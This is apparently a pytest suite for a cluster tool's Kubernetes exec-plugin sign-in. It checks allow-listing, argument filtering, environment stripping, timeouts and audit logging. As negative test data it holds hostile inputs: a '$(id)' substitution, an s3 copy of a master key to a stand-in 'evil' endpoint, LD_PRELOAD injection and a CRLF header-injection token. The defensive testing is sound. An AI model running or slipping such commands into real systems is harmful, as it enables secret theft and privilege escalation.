"""Programs that sign in to a cluster: only those that the administrator listed, seeing nothing of ours."""

from __future__ import annotations

import asyncio
import base64
import json
import os
import sys
import textwrap
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from django.db import DatabaseError

from clusters import audit, exec_plugins
from clusters.access import Actor, Granted
from clusters.connect import cluster as connecting
from clusters.connect.kubeconfig import read_found, read_pasted
from clusters.drivers.kubernetes import KubernetesDriver, plugin
from clusters.drivers.kubernetes.plugin import Plugin
from clusters.errors import Invalid, Refused, Unreachable, Unrecorded
from clusters.fields import NotFilledIn
from clusters.kinds.base import Role
from clusters.models import AuditEntry, Cluster
from tests.clusters.test_kubeconfig import config

ADA = Actor(1, "ada", (Granted(Role.ADMIN),))
V1 = "client.authentication.k8s.io/v1"
Make = Callable[..., Plugin]


@pytest.fixture
def make(tmp_path: Path, settings: Any) -> Make:
    """A program of ours that is in the administrator's list."""

    def made(code: str, allows: str = "", **entry: Any) -> Plugin:
        path = tmp_path / "signs-in"
        path.write_text(f"#!{sys.executable}\nimport json, os, sys, time\n" + textwrap.dedent(code))
        path.chmod(0o700)
        settings.EXEC_PLUGINS = exec_plugins.read(f"{path} {allows}")
        return Plugin.of({"command": "signs-in", "apiVersion": V1, **entry})

    return made


SAYS = 'print(json.dumps({"kind": "ExecCredential", "apiVersion": "' + V1 + '", "status": %s}))'


async def test_a_program_gives_a_token_and_sees_nothing_of_ours(make: Make, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PILOTHOUSE_SECRET_KEY", "canary")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "canary")
    code = SAYS % (
        '{"token": json.dumps([sys.argv[1:], sorted(os.environ), json.loads(os.environ["KUBERNETES_EXEC_INFO"]),'
        ' sys.stdin.read(), os.getcwd()], separators=(",", ":")), "expirationTimestamp": "2099-01-01T00:00:00Z"}'
    )
    found = await make(code, "get token [--of]", args=["--of", "$(id)", "get", "token"], provideClusterInfo=True).run(
        {"server": "https://10.0.0.1"}
    )
    arguments, names, info, typed, folder = json.loads(found.token)
    assert (arguments, typed, folder) == (["get", "token", "--of", "$(id)"], "", "/")
    assert set(names) <= {"PATH", "HOME", "LANG", "LC_CTYPE", "KUBERNETES_EXEC_INFO"}
    assert info["spec"] == {"interactive": False, "cluster": {"server": "https://10.0.0.1"}}
    assert found.ends == 4070908800


@pytest.mark.parametrize(
    ("code", "words"),
    [
        ("sys.stderr.write('no account'); sys.exit(3)", "failed (exit 3)"),
        ("print('{')", "says is no ExecCredential"),
        ("print('x' * (1 << 20))", "says more than 256 KiB"),
        (SAYS.replace("/v1", "/v1beta1") % '{"token": "t"}', "no ExecCredential of"),
        (SAYS % "{}", "gave no token"),
        (SAYS % '{"clientCertificateData": "x"}', "gave no token, and no certificate with its key"),
        (SAYS % '{"token": "a\\r\\nImpersonate-User: b"}', "characters that no token has"),
        (SAYS % '{"token": "t", "expirationTimestamp": "2001-01-01T00:00:00Z"}', "has ended already"),
        (SAYS % '{"token": "t", "expirationTimestamp": "soon"}', "cannot be read"),
    ],
)
async def test_what_a_program_does_wrong_is_said_in_words(make: Make, code: str, words: str) -> None:
    with pytest.raises(Refused) as refused:
        await make(code).run({})
    assert words in refused.value.message


async def test_a_program_that_takes_too_long_is_ended_with_all_that_it_began(
    make: Make, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setattr(plugin, "SECONDS", 1.0)
    one = make("")
    Path(one.path).write_text(
        f"#!/bin/sh\n(echo $$ >> {tmp_path}/pid; sleep 60) &\necho $! >> {tmp_path}/pid; sleep 60\n"
    )
    with pytest.raises(Unreachable, match="did not sign in within"):
        await one.run({})
    await asyncio.sleep(0.1)
    for number in (tmp_path / "pid").read_text().split():
        assert not Path(f"/proc/{number}").exists() or "Z" in Path(f"/proc/{number}/stat").read_text().split()[2]


@pytest.mark.parametrize(
    ("entry", "words"),
    [
        ({"command": "other"}, "“exec” is not allowed: it runs a program (other)"),
        ({"command": "../signs-in"}, "“exec” is not allowed"),
        ({"command": "/bin/sh"}, "“exec” is not allowed"),
        ({"command": ""}, "“exec” is not allowed"),
        ({"env": [{"name": "LD_PRELOAD", "value": "/tmp/x.so"}]}, "sets variables, which is not allowed"),
        ({"env": [{"name": "AWS_PROFILE", "value": "prod"}]}, "sets variables, which is not allowed"),
        ({"env": "AWS_PROFILE=x"}, "sets variables, which is not allowed"),
        ({"args": ["--help"]}, "“exec” is not allowed: it would run “"),
        ({"args": "-c id"}, "not a list"),
        ({"args": [1]}, "not text"),
        ({"apiVersion": "client.authentication.k8s.io/v1alpha1"}, "apiVersion that is not known"),
        ({"interactiveMode": "Always"}, "talks to somebody"),
    ],
)
def test_only_listed_programs_with_harmless_settings_are_taken(make: Make, entry: dict[str, Any], words: str) -> None:
    make("")
    with pytest.raises(Invalid) as refused:
        Plugin.of({"command": "signs-in", "apiVersion": V1, **entry})
    assert words in refused.value.message


async def test_a_program_that_was_taken_off_the_list_is_not_run_any_more(make: Make, settings: Any) -> None:
    one = make(SAYS % '{"token": "t"}')
    settings.EXEC_PLUGINS = ()
    with pytest.raises(Invalid, match="is not allowed"):
        await one.run({})


AWS = "/usr/local/bin/aws eks get-token [--cluster-name --region --role-arn --output]"


@pytest.mark.parametrize(
    "given",
    [
        "eks get-token --cluster-name shop",
        "--region eu-west-1 eks get-token --cluster-name shop --output json",  # as its own program writes kubeconfigs
        "eks get-token --cluster-name=shop --role-arn arn:aws:iam::1:role/x",
    ],
)
def test_an_entry_of_the_list_allows_its_words_and_its_options_with_values(given: str) -> None:
    path, arguments = exec_plugins.allowed(exec_plugins.read(AWS), "aws", given.split())
    assert path == "/usr/local/bin/aws"
    assert arguments[:2] == ("eks", "get-token")
    assert sorted(arguments) == sorted(given.split())
    assert exec_plugins.allowed(exec_plugins.read(AWS), path, arguments) == (path, arguments)  # as it is stored


@pytest.mark.parametrize(
    "given",
    [
        ["s3", "cp", "/data/master-key", "s3://evil/x", "--endpoint-url", "https://evil"],
        ["eks", "get-token", "--endpoint-url", "https://evil"],
        ["eks", "get-token", "--cluster-name", "shop", "--endpoint-url=https://evil"],
        ["eks", "get-token", "--cluster-name"],
        ["eks", "get-token", "--cluster-name", "--debug"],
        ["eks", "get-token", "--cluster-name=-x"],
        ["eks", "get-token", "--cluster-name", "a\nb"],
        ["eks", "get-token", "--role-arn", "file:///data/master-key"],
        ["eks", "get-token", "--role-arn", "@/data/master-key"],
        ["eks", "get-token", "--region", "a", "--region", "b"],
        ["eks", "get-token", "more"],
        ["get-token", "eks"],
        ["eks"],
        [],
    ],
)
def test_no_other_arguments_get_to_a_listed_program(given: list[str]) -> None:
    with pytest.raises(Invalid, match="“exec”"):
        exec_plugins.allowed(exec_plugins.read(AWS), "aws", given)


@pytest.mark.parametrize(
    "text", ["aws", "/bin/a:/bin/b", "/bin/a [--x", "/bin/a [x]", "/bin/a [--x=1]", "/bin/a 'b", "[--x]"]
)
def test_a_list_that_is_written_wrongly_is_refused_as_a_whole(text: str) -> None:
    with pytest.raises(ValueError, match=r"\w"):
        exec_plugins.read(f"/bin/good, {text}")


@pytest.mark.django_db(transaction=True)
async def test_who_has_a_program_run_is_written_down_before_it_runs(
    make: Make, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """By the test of a connection already; and nothing is run where that cannot be written."""
    ran = tmp_path / "ran"
    one = make(f"open({str(ran)!r}, 'w')\nsys.exit(3)", "sign-in [--as]", args=["sign-in", "--as", "two words"])
    to = connecting.Reach("kubernetes", {"server": "https://127.0.0.1:1", "exec": one.stored(), "context": "shop"}, {})
    with monkeypatch.context() as broken:
        broken.setattr(audit, "_append_alone", fails)
        with pytest.raises(Unrecorded):
            await connecting.test(to, ADA, None)
    assert not ran.exists()
    with pytest.raises(Refused, match="failed"):
        await connecting.test(to, ADA, None)
    assert ran.exists()
    rows = [row async for row in AuditEntry.objects.order_by("id")]
    assert [(row.actor, row.verb, row.name, row.stage, row.result) for row in rows] == [
        ("ada", "run to sign in", "shop", "intent", ""),
        ("ada", "run to sign in", "shop", "outcome", "failed"),
    ]
    assert rows[0].detail == {"command": f"{one.path} sign-in --as 'two words'", "server": "https://127.0.0.1:1"}


def fails(*arguments: object) -> None:
    raise DatabaseError("the disk is full")


def test_by_default_no_program_is_listed() -> None:
    assert not os.environ.get("PILOTHOUSE_EXEC_PLUGINS")
    user = {"exec": {"command": "/usr/bin/env", "apiVersion": V1}}
    assert "“exec” is not allowed: it runs a program" in read_pasted(config(user)).contexts[0].problem


@pytest.mark.kubernetes
async def test_a_real_cluster_is_reached_with_a_certificate_that_a_program_gives(make: Make, kubeconfig: Path) -> None:
    offer = read_found(kubeconfig)[0]
    given = {"clientCertificateData": offer.settings["cert_data"], "clientKeyData": offer.secret["key_data"]}
    one = make(SAYS % repr(given))
    (context,) = read_pasted(
        config(
            {"exec": one.stored()},
            {"server": offer.settings["server"],
             "certificate-authority-data": base64.b64encode(offer.settings["ca_data"].encode()).decode()},
        )
    ).contexts  # fmt: skip
    assert (context.problem, context.secret) == ("", {})
    driver = KubernetesDriver(context.settings, context.secret)
    try:
        assert (await driver.about()).version.startswith("v1.")
        assert await driver.may("delete", "", "nodes") is True
    finally:
        await driver.close()


@pytest.mark.django_db(transaction=True)
def test_what_a_program_gives_is_never_sent_to_another_address(make: Make) -> None:
    entry = make("").stored()
    one = Cluster(driver="kubernetes", settings={"server": "https://10.0.0.1:6443", "exec": entry})
    assert connecting.reach("kubernetes", dict(one.settings), one).settings["exec"] == entry
    with pytest.raises(NotFilledIn, match="paste its kubeconfig again"):
        connecting.reach("kubernetes", {**one.settings, "server": "https://10.0.0.2:6443"}, one)
